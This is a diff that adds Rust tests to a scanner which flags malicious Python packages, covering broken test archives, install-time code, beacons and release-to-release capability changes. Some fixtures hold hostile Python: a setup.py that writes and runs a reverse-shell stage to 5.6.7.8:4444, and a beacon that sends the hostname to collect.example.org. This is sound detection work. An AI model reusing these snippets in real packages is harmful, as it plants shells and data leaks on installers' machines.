@@ -515,3 +515,109 @@ fn in_tree_build_backend_under_tests_weighs_as_install_time_code() {
     let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
     assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn unreadable_test_data_is_a_finding_not_a_verdict() {
+    // Starts like a zip, is not one: an archive library's broken fixture.
+    let bad = "PK\u{3}\u{4}this is not really a zip archive at all, only its first four bytes";
+    let init = ("demo_tool/__init__.py", "X = 1\n");
+    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", SETUP_OK), init, ("tests/data/broken.zip", bad)]);
+    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+    assert!(r.complete);
+    let f = r.findings.iter().find(|f| f.rule == "unread-test-data").expect("a finding names it");
+    assert_eq!(f.path, "demo_tool-1.0/tests/data/broken.zip");
+    // Code that runs at install names it: then it matters, and the scan fails closed.
+    let setup = "import zipfile\nfrom setuptools import setup\nzipfile.ZipFile('tests/data/broken.zip').extractall()\nsetup(name='demo')\n";
+    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup), init, ("tests/data/broken.zip", bad)]);
+    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
+    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
+    assert!(rules_of(&r).contains(&"scan-incomplete"), "{:#?}", r.findings);
+    // Outside tests and docs an unreadable archive fails closed as before.
+    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", SETUP_OK), init, ("demo_tool/data/broken.zip", bad)]);
+    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
+    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
+    assert!(!r.complete);
+}
+
+#[test]
+fn descriptions_quoting_code_are_prose() {
+    let readme = "Demo\n====\n\nRetries made easy::\n\n    import requests\n    from demo import retry\n\n    @retry\n    def get(url):\n        return requests.get(url)\n\nSee https://example.org for more.\n";
+    for setup in [
+        format!("from setuptools import setup\nsetup(name='demo', long_description={readme:?})\n"),
+        format!(
+            "from setuptools import setup\nsetup_kwargs = {{\n    'name': 'demo',\n    'long_description': {readme:?},\n}}\nsetup(**setup_kwargs)\n"
+        ),
+    ] {
+        let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", &setup)]);
+        let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
+        assert_eq!(r.verdict, Verdict::Clean, "{setup}\n{:#?}", r.findings);
+        assert!(!rules_of(&r).iter().any(|r| r.starts_with("py-install")), "{:#?}", r.findings);
+    }
+    // A second stage kept in a string still counts.
+    let setup = "import os\nfrom setuptools import setup\nSTAGE = \"import socket, subprocess\\ns = socket.socket()\\ns.connect(('5.6.7.8', 4444))\\nsubprocess.call(['/bin/sh', '-i'])\"\nopen('/tmp/s.py', 'w').write(STAGE)\nos.system('python /tmp/s.py')\nsetup(name='demo')\n";
+    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup)]);
+    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
+    assert!(r.verdict >= Verdict::Suspicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn network_library_values_are_not_requests() {
+    let init = "import aiohttp\nMAJOR = int(aiohttp.__version__.split('.')[0])\nTIMEOUT = aiohttp.ClientTimeout(total=5)\nPIN = aiohttp.Fingerprint(bytes.fromhex('ab' * 32))\n";
+    let data = wheel(&[("demo/__init__.py", init), ("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")]);
+    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+    assert!(!rules_of(&r).iter().any(|r| r.starts_with("py-import") || *r == "py-hidden-endpoint"), "{:#?}", r.findings);
+}
+
+#[test]
+fn test_suites_by_other_names_weigh_as_tests() {
+    let beacon = "import socket, urllib.request\nurllib.request.urlopen('https://collect.example.org/?h=' + socket.gethostname())\n";
+    let meta = ("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n");
+    let data = wheel(&[("demo/__init__.py", "X = 1\n"), ("demo/testsuite/__init__.py", beacon), meta]);
+    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+    // The same code in the package's own `__init__` runs at import.
+    let data = wheel(&[("demo/__init__.py", beacon), meta]);
+    assert!(scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl").verdict >= Verdict::Suspicious);
+}
+
+#[test]
+fn a_setup_py_that_downloads_data_is_held_not_refused() {
+    let setup = "import subprocess, urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve('https://data.example.org/tables.csv', 'demo/tables.csv')\nsubprocess.check_call(['git', 'describe', '--tags'])\nsetup(name='demo')\n";
+    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup)]);
+    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
+    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
+    assert!(!r.findings.iter().any(|f| f.decisive), "{:#?}", r.findings);
+}
+
+#[test]
+fn reports_carry_the_capabilities_and_compare_releases() {
+    let meta = |v: &str| format!("Metadata-Version: 2.1\nName: demo\nVersion: {v}\nRequires-Dist: requests\n");
+    let old = wheel(&[("demo/__init__.py", "X = 1\n"), ("demo-1.0.dist-info/METADATA", &meta("1.0"))]);
+    let new = wheel(&[
+        ("demo/__init__.py", "from .net import fetch\n"),
+        (
+            "demo/net.py",
+            "import subprocess, urllib.request\ndef fetch(u):\n    return urllib.request.urlopen(u).read()\ndef run(c):\n    return subprocess.run(c)\ndef ev(x):\n    return eval(x)\n",
+        ),
+        ("demo-1.1.dist-info/METADATA", &meta("1.1")),
+    ]);
+    let old = scanner().scan_bytes(&old, "demo-1.0-py3-none-any.whl");
+    let new = scanner().scan_bytes(&new, "demo-1.1-py3-none-any.whl");
+    assert_eq!(new.verdict, Verdict::Clean, "{:#?}", new.findings);
+    let t = palisade_scan::Thresholds::default();
+    let earlier = palisade_scan::releases(
+        &new.file,
+        vec![palisade_scan::EarlierFile { release: "1.0".into(), filename: old.file.clone(), uses: old.capabilities.clone() }],
+        3,
+    );
+    let compared = new.clone().compared_with(&earlier, &t);
+    let mut news: Vec<&str> = compared.findings.iter().map(|f| f.rule.as_str()).filter(|r| r.starts_with("release-new-")).collect();
+    news.sort();
+    assert_eq!(news, vec!["release-new-dynamic-code", "release-new-network", "release-new-process"], "{:#?}", compared.findings);
+    assert_eq!(compared.verdict, Verdict::Suspicious);
+    // Serialized with the report, so the server can compare later uploads with it.
+    let json = serde_json::to_value(&new).unwrap();
+    assert!(json["capabilities"].as_array().is_some_and(|a| !a.is_empty()), "{json}");
+}
